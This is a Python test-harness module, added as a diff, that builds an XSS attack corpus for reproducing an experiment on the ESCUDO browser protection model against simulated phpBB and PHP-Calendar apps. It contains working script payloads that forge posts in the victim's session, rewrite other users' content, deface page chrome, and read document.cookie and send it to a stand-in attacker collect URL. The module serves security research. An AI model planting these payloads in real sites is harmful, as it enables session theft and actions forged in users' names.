@@ -1,0 +1,228 @@
+"""The cross-site-scripting attack corpus.
+
+The paper creates four XSS attacks per application (Section 6.4): posting
+new content on behalf of the victim, modifying existing content, plus (in
+this corpus, matching the goals the paper's threat discussion motivates)
+stealing the session cookie and defacing the application chrome.  Input
+validation is removed from the applications so the payloads reach the page;
+the question the experiment answers is what the *browser's* protection model
+lets the injected scripts do once they are there.
+
+Every payload is a ``<script>`` hidden inside user-supplied content (a forum
+reply, a private message, a calendar event).  Under ESCUDO these scripts run
+as ring-3 principals inside their message/event scope; under the same-origin
+policy they run with the full authority of the page's origin.
+"""
+
+from __future__ import annotations
+
+from .attacker import AttackerSite
+from .harness import Attack, AttackEnvironment, visit
+
+#: URL the cookie-stealing payloads exfiltrate to.
+COLLECT_URL = f"{AttackerSite().origin}/collect"
+
+
+# -- payload builders ------------------------------------------------------------------------------
+
+
+def payload_post_as_victim(action_query: str) -> str:
+    """Script that forges an authenticated POST through ``XMLHttpRequest``."""
+    return (
+        "<script>"
+        "var xhr = new XMLHttpRequest();"
+        f"xhr.open('POST', '{action_query}');"
+        "xhr.send();"
+        "</script>thanks for the great discussion!"
+    )
+
+
+def payload_modify_element(element_id: str, replacement: str) -> str:
+    """Script that rewrites somebody else's content through the DOM API."""
+    return (
+        "<script>"
+        f"var victimNode = document.getElementById('{element_id}');"
+        f"if (victimNode != null) {{ victimNode.innerHTML = '{replacement}'; }}"
+        "</script>interesting point."
+    )
+
+
+def payload_steal_cookie() -> str:
+    """Script that reads ``document.cookie`` and ships it to the attacker."""
+    return (
+        "<script>"
+        "var loot = document.cookie;"
+        "var xhr = new XMLHttpRequest();"
+        f"xhr.open('GET', '{COLLECT_URL}?c=' + loot);"
+        "xhr.send();"
+        "</script>nice weather today."
+    )
+
+
+def payload_deface_chrome(element_id: str, text: str) -> str:
+    """Script that rewrites the application chrome (navigation, banners)."""
+    return (
+        "<script>"
+        f"var chromeNode = document.getElementById('{element_id}');"
+        f"if (chromeNode != null) {{ chromeNode.textContent = '{text}'; }}"
+        "</script>+1"
+    )
+
+
+# -- success predicates -----------------------------------------------------------------------------
+
+
+def _forged_post_exists_phpbb(env: AttackEnvironment) -> bool:
+    return any(topic.title == "PWNED" for topic in env.app.state.topics)
+
+
+def _forged_event_exists(env: AttackEnvironment) -> bool:
+    return any(event.title == "PWNED" for event in env.app.state.events)
+
+
+def _element_contains(env: AttackEnvironment, element_id: str, needle: str) -> bool:
+    if env.loaded is None:
+        return False
+    element = env.loaded.page.document.get_element_by_id(element_id)
+    return element is not None and needle in element.text_content
+
+def _element_inner_contains(env: AttackEnvironment, element_id: str, needle: str) -> bool:
+    if env.loaded is None:
+        return False
+    element = env.loaded.page.document.get_element_by_id(element_id)
+    if element is None:
+        return False
+    from repro.html.serializer import serialize_children
+
+    return needle in serialize_children(element) or needle in element.text_content
+
+
+def _cookie_stolen(env: AttackEnvironment) -> bool:
+    session_id = env.victim_cookie_value()
+    return bool(session_id) and env.attacker.received(session_id)
+
+
+# -- phpBB attacks -------------------------------------------------------------------------------------
+
+
+def phpbb_xss_attacks() -> list[Attack]:
+    """The four phpBB XSS attacks."""
+
+    def plant_reply(payload: str):
+        def plant(env: AttackEnvironment) -> None:
+            env.app.add_reply(1, "mallory", payload)
+
+        return plant
+
+    def plant_private_message(payload: str):
+        def plant(env: AttackEnvironment) -> None:
+            env.app.send_private_message("mallory", env.victim, "hello", payload)
+
+        return plant
+
+    view_topic = lambda env: visit(env, "/viewtopic?t=1")  # noqa: E731 - tiny adapters
+    view_inbox = lambda env: visit(env, "/privmsg")  # noqa: E731
+
+    return [
+        Attack(
+            name="phpbb-xss-post-as-victim",
+            app_key="phpbb",
+            category="xss",
+            description="reply hides a script that forges a new topic through the victim's session",
+            plant=plant_reply(
+                payload_post_as_victim("/posting?mode=newtopic&subject=PWNED&message=forged+by+xss")
+            ),
+            victim_action=view_topic,
+            succeeded=_forged_post_exists_phpbb,
+        ),
+        Attack(
+            name="phpbb-xss-modify-existing-message",
+            app_key="phpbb",
+            category="xss",
+            description="reply hides a script that rewrites another user's post via the DOM API",
+            plant=plant_reply(payload_modify_element("post-body-1", "DEFACED BY MALLORY")),
+            victim_action=view_topic,
+            succeeded=lambda env: _element_inner_contains(env, "post-body-1", "DEFACED BY MALLORY"),
+        ),
+        Attack(
+            name="phpbb-xss-steal-session-cookie",
+            app_key="phpbb",
+            category="xss",
+            description="private message hides a script that exfiltrates document.cookie",
+            plant=plant_private_message(payload_steal_cookie()),
+            victim_action=view_inbox,
+            succeeded=_cookie_stolen,
+        ),
+        Attack(
+            name="phpbb-xss-deface-application-chrome",
+            app_key="phpbb",
+            category="xss",
+            description="reply hides a script that rewrites the forum header (ring-1 chrome)",
+            plant=plant_reply(payload_deface_chrome("whoami", "pwned by mallory")),
+            victim_action=view_topic,
+            succeeded=lambda env: _element_contains(env, "whoami", "pwned by mallory"),
+        ),
+    ]
+
+
+# -- PHP-Calendar attacks -----------------------------------------------------------------------------------
+
+
+def phpcalendar_xss_attacks() -> list[Attack]:
+    """The four PHP-Calendar XSS attacks."""
+
+    def plant_event(payload: str):
+        def plant(env: AttackEnvironment) -> None:
+            env.app.create_event("mallory", "2010-04-18", "Community picnic", payload)
+
+        return plant
+
+    view_month = lambda env: visit(env, "/")  # noqa: E731
+
+    return [
+        Attack(
+            name="phpcalendar-xss-create-event-as-victim",
+            app_key="phpcalendar",
+            category="xss",
+            description="event description hides a script that forges a new event via the victim's session",
+            plant=plant_event(
+                payload_post_as_victim(
+                    "/event/create?date=2010-04-30&title=PWNED&description=forged+by+xss"
+                )
+            ),
+            victim_action=view_month,
+            succeeded=_forged_event_exists,
+        ),
+        Attack(
+            name="phpcalendar-xss-modify-existing-event",
+            app_key="phpcalendar",
+            category="xss",
+            description="event description hides a script that rewrites another user's event",
+            plant=plant_event(payload_modify_element("event-body-1", "CANCELLED (not really)")),
+            victim_action=view_month,
+            succeeded=lambda env: _element_inner_contains(env, "event-body-1", "CANCELLED (not really)"),
+        ),
+        Attack(
+            name="phpcalendar-xss-steal-session-cookie",
+            app_key="phpcalendar",
+            category="xss",
+            description="event description hides a script that exfiltrates document.cookie",
+            plant=plant_event(payload_steal_cookie()),
+            victim_action=view_month,
+            succeeded=_cookie_stolen,
+        ),
+        Attack(
+            name="phpcalendar-xss-deface-application-chrome",
+            app_key="phpcalendar",
+            category="xss",
+            description="event description hides a script that rewrites the calendar header",
+            plant=plant_event(payload_deface_chrome("calendar-user", "calendar taken over")),
+            victim_action=view_month,
+            succeeded=lambda env: _element_contains(env, "calendar-user", "calendar taken over"),
+        ),
+    ]
+
+
+def all_xss_attacks() -> list[Attack]:
+    """The full XSS corpus (four per application, as in the paper)."""
+    return phpbb_xss_attacks() + phpcalendar_xss_attacks()
